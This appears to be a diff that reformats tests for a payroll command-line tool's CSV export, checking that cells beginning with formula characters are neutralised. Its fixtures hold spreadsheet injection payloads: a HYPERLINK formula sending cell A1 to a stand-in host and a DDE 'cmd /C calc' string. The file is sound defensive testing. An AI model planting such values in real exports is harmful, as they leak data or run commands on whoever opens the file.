@@ -32,12 +32,16 @@ beforeAll(async () => {
   expect((await tally('roster', 'import', 'examples/roster.csv')).code).toBe(0);
   expect((await tally('metrics', 'import', 'examples/metrics.csv')).code).toBe(0);
   const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
-  const renamed = Object.entries(ATTACKS).map(([id, name]) => `${id},${quote(name)},${id === 'U00001003' ? 'aftersales' : 'presales'},regular,2024-01-01,agent`);
+  const renamed = Object.entries(ATTACKS).map(
+    ([id, name]) => `${id},${quote(name)},${id === 'U00001003' ? 'aftersales' : 'presales'},regular,2024-01-01,agent`,
+  );
   writeFileSync(join(dir, 'attack.csv'), `slack_id,name,track,level,hired_on,role\n${renamed.join('\n')}\n`);
   expect((await tally('roster', 'import', join(dir, 'attack.csv'))).code).toBe(0);
   // three store deductions: a deduction in the file, commission forfeited and a dismissal flag
   for (const day of ['2026-10-08', '2026-10-09', '2026-10-10']) {
-    expect((await tally('penalty', 'add', 'U00001001', 'store_deduction', '--on', day, '--by', 'U0LEAD001')).code).toBe(0);
+    expect((await tally('penalty', 'add', 'U00001001', 'store_deduction', '--on', day, '--by', 'U0LEAD001')).code).toBe(
+      0,
+    );
   }
 });
 afterAll(() => db.close());
@@ -56,7 +60,9 @@ describe('the payroll file', () => {
   it('writes every attacking name as text, and its figures equal payroll --json', async () => {
     const file = (await tally('payroll', '--month', '2026-10', '--csv')).raw;
     const [header, ...rows] = cells(file);
-    expect(lines(file)[0]).toBe('客服ID,姓名,岗位,级别,得分,排名,底薪,绩效,提成,排名奖,餐补,罚款,合计,提成取消,标记开除,调仓库学习');
+    expect(lines(file)[0]).toBe(
+      '客服ID,姓名,岗位,级别,得分,排名,底薪,绩效,提成,排名奖,餐补,罚款,合计,提成取消,标记开除,调仓库学习',
+    );
     const json = (await tally('payroll', '--month', '2026-10', '--json')).json();
     expect(rows).toHaveLength(json.rows.length);
     const yuan = (fen: number) => (fen / 100).toFixed(2);
@@ -86,7 +92,9 @@ describe('the payroll file', () => {
     expect(first.filter((c) => c !== undefined && '=+@\t\r'.includes(c))).toEqual([]);
     const attacker = rows.find((r) => r[0] === 'U00001001')!;
     expect(attacker.slice(11)).toEqual(['-1500.00', attacker[12], '是', '是', '否']);
-    expect(lines(file).find((l) => l.startsWith('U00001001,'))).toMatch(/^U00001001,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""click""\)",售前,正式,\d+\.\d\d,\d+,[\d.]+,[\d.]+,0\.00,0\.00,300\.00,-1500\.00,-?[\d.]+,是,是,否$/);
+    expect(lines(file).find((l) => l.startsWith('U00001001,'))).toMatch(
+      /^U00001001,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""click""\)",售前,正式,\d+\.\d\d,\d+,[\d.]+,[\d.]+,0\.00,0\.00,300\.00,-1500\.00,-?[\d.]+,是,是,否$/,
+    );
     // the JSON contract is unchanged: names as they are
     expect(json.rows.find((r: any) => r.slackId === 'U00001002').name).toBe("+cmd|' /C calc'!A0");
   });
@@ -109,7 +117,9 @@ describe('the payroll file', () => {
   it('speaks English to an English team: headers, yes/no, the same figures', async () => {
     expect((await tally('policy', 'set', writeJson('en.json', { locale: 'en' }), '--from', '2026-11-05')).code).toBe(0);
     const file = (await tally('payroll', '--month', '2026-10', '--csv')).raw;
-    expect(lines(file)[0]).toBe('Slack ID,Name,Track,Level,Score,Rank,Base,Performance,Commission,Award,Meal allowance,Penalties,Total,Commission forfeited,Flagged for dismissal,Warehouse rotation');
+    expect(lines(file)[0]).toBe(
+      'Slack ID,Name,Track,Level,Score,Rank,Base,Performance,Commission,Award,Meal allowance,Penalties,Total,Commission forfeited,Flagged for dismissal,Warehouse rotation',
+    );
     const row = cells(file).find((r) => r[0] === 'U00001001')!;
     expect(row.slice(1, 4)).toEqual(['\'=HYPERLINK("http://x/?"&A1,"click")', 'pre-sales', 'regular']);
     expect(row.slice(11)).toEqual(['-1500.00', row[12], 'yes', 'yes', 'no']);
@@ -123,7 +133,16 @@ describe('the payroll file', () => {
 
 describe('csvFile', () => {
   it('neutralises text that starts a formula, and leaves numbers numbers', () => {
-    const file = csvFile(['a', '=b'], [['=1+1', new Figure('-12.50')], ['\tx', '\ry'], ['@a', '-'], ['+1', null], ['plain', new Figure('3')]]);
+    const file = csvFile(
+      ['a', '=b'],
+      [
+        ['=1+1', new Figure('-12.50')],
+        ['\tx', '\ry'],
+        ['@a', '-'],
+        ['+1', null],
+        ['plain', new Figure('3')],
+      ],
+    );
     expect(cells(file)).toEqual([
       ['a', "'=b"],
       ["'=1+1", '-12.50'],
